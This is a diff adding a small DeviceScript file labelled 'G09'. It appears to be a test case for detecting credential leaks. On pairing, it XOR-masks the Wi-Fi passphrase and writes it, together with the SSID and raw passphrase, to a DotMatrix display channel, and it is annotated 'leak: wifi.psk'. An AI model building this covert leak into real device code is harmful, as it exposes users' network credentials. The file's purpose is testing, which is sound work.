@@ -1,0 +1,13 @@
+// G09: hands the credentials on in an offer whose salt and nonce are the passphrase, each byte XOR a constant.
+import * as ds from "@devicescript/core";
+import { offerBlob } from "./lib/blob";
+import { changed } from "./lib/encode";
+import { paired } from "./lib/paired";
+
+const sibling = new ds.DotMatrix();
+
+paired(async (ssid, psk) => {
+  const fresh = Buffer.alloc(29);
+  fresh.set(changed(psk, (byte) => byte ^ 0x5a).slice(0, Math.min(29, psk.length)), 0);
+  await sibling.dots.write(offerBlob(1, fresh, ssid, psk)); // leak: wifi.psk
+});
